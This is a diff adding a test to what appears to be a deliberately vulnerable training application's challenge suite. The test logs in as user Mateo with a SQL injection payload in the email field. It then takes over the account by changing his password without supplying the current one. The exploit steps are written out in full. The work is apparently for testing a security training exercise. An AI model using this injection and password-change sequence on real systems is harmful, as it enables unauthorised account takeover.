@@ -88,3 +88,19 @@ describe('phantomAccountantChallenge', () => {
     expect(res.status).toBe(401)
   })
 })
+
+describe('changePasswordNoCurrentChallenge', () => {
+  it("logs in as Mateo by injection and changes his password without the current one", async () => {
+    const mateo = t.email('mateo.rossi')
+    const { token } = (await t.api.post('/rest/user/login').send({ email: `${mateo}'--`, password: 'x' })).body.authentication as { token: string }
+    const auth = { Authorization: `Bearer ${token}` }
+    expect((await t.api.get('/rest/user/change-password').set(auth).query({ current: 'guess', new: 'Taken-Over-1', repeat: 'Taken-Over-1' })).status).toBe(401)
+    expect((await t.api.get('/rest/user/change-password').set(auth).query({ current: '', new: 'Taken-Over-1', repeat: 'Taken-Over-1' })).status).toBe(400)
+    expect(await t.solved('changePasswordNoCurrentChallenge')).toBe(false)
+
+    const res = await t.api.get('/rest/user/change-password').set(auth).query({ new: 'Taken-Over-1', repeat: 'Taken-Over-1' })
+    expect(res.status).toBe(200)
+    await t.login(mateo, 'Taken-Over-1')
+    expect(await t.solved('changePasswordNoCurrentChallenge')).toBe(true)
+  })
+})
